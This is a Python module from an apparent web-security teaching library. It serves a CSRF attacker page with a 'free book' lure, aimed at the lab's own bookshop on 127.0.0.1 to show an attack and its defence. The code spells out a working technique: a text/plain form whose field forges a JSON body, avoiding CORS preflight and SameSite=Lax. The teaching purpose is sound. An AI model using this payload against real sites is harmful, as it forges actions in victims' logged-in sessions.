"""A page on another origin that forges a request to our bookshop: cross-site request forgery (CSRF).

A browser attaches a site's cookies to every request it sends to that site, whichever page made the
request. So a page served from somewhere else can make the learner's own browser post to our bookshop,
and the bookshop sees the learner's session cookie on it. This module serves such a page, aimed only
at our own servers on 127.0.0.1, so a notebook can show the attack and then the defence.

The page is a plain HTML form, no script. Two details make it work against a JSON API:

* ``enctype="text/plain"``: a form with this type is a "simple" cross-origin request, which the
  browser sends without asking the server first (no CORS preflight). A page's ``fetch`` with
  ``Content-Type: application/json`` would need the server's permission before it could send it.
* text/plain encodes each field as ``name=value``. The form has one field, named
  ``{"item": "tcp-ip", "qty": 9, "pad": "`` and valued ``"}``, so the body is the JSON object
  ``{"item": "tcp-ip", "qty": 9, "pad": "="}``: a server that parses any body as JSON accepts it.

The page is served on another port of 127.0.0.1: another *origin* (scheme, host and port all count)
but the same *site* (SameSite compares registrable domains and ignores ports), so ``SameSite=Lax`` on
the session cookie does not hold the cookie back. The bookshop's guard does: a non-JSON body gets 415,
and a write whose ``Origin`` header names another origin gets 403 (``csrf_guard``, on by default).

    from statelab import attacker
    evil = attacker.serve(shop, item="tcp-ip", qty=9)   # started and registered like a server
    evil.page_url                                       # open it in the tab where you are logged in
    evil.body                                           # the exact bytes its form sends
"""

from __future__ import annotations

import html
import json
from typing import Any

from werkzeug.wrappers import Request, Response

from .service import HttpService
from .service.registry import register
from .shop.proxy import page_url

PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>You won a book!</title></head>
<body>
<h1>Congratulations, you won a free book!</h1>
<p>This page is <b>another origin</b>: {here}. It is not the bookshop, but it is on the same <i>site</i>
(the same host, another port), so your browser will attach the bookshop's cookies to what this form sends.</p>
<form id="prize" action="{action}" method="post" enctype="text/plain">
<input type="hidden" name="{name}" value="{value}">
<button id="claim" type="submit">Claim your prize</button>
</form>
<p>The button posts this body to <code>{action}</code>, with <code>Content-Type: text/plain</code>:</p>
<pre>{body}</pre>
</body></html>
"""


class AttackerSite(HttpService):
    """One page whose form posts ``{"item": item, "qty": qty}`` to ``target``'s ``/cart``.

    ``target`` is a bookshop :class:`~statelab.shop.server.Server` (or anything with ``url`` and
    ``port``). The form's action is the address the learner's browser uses for the target: its
    url on this machine, or Jupyter's proxy path on Binder and JupyterHub.
    """

    def __init__(self, target: Any, *, item: str = "tcp-ip", qty: int = 9, name: str = "attacker",
                 port: int = 0) -> None:
        super().__init__(name, port)
        self.target = target
        self.item, self.qty = str(item), int(qty)

    @property
    def field(self) -> tuple[str, str]:
        """The form's one field as (name, value): text/plain joins them with ``=`` into a JSON object."""
        head = json.dumps({"item": self.item, "qty": self.qty})[:-1]
        return f'{head}, "pad": "', '"}'

    @property
    def body(self) -> str:
        """The body a browser sends when the form is submitted (text/plain: ``name=value`` and CRLF)."""
        name, value = self.field
        return f"{name}={value}\r\n"

    @property
    def action(self) -> str:
        """Where the form posts: the target's ``/cart``, at the address a browser uses for it."""
        return page_url(self.target) + "cart"

    @property
    def page_url(self) -> str:
        """Where a browser tab opens this page (directly, or through Jupyter's proxy)."""
        return page_url(self)

    def page(self) -> str:
        name, value = self.field
        return PAGE.format(here=html.escape(self.url), action=html.escape(self.action), name=html.escape(name),
                           value=html.escape(value), body=html.escape(self.body.strip()))

    def _build_app(self) -> Any:
        def app(environ: dict[str, Any], start_response: Any) -> Any:
            request = Request(environ)
            if request.path != "/" or request.method not in ("GET", "HEAD"):
                response = Response(json.dumps({"error": "this attacker site has one page, GET /"}), status=404,
                                    mimetype="application/json")
            else:
                response = Response(self.page(), mimetype="text/html")
                response.headers["Cache-Control"] = "no-store"
            response.headers["X-Served-By"] = self.name
            return response(environ, start_response)

        return app


def serve(target: Any, **options: Any) -> AttackerSite:
    """Start an :class:`AttackerSite` aimed at ``target`` on a free port of 127.0.0.1 and return it.

    Registered like every server: re-running the cell stops the page its last run started, and
    ``sl.stop_all()`` stops it.
    """
    site = AttackerSite(target, **options)
    register(site)
    site.start()
    return site
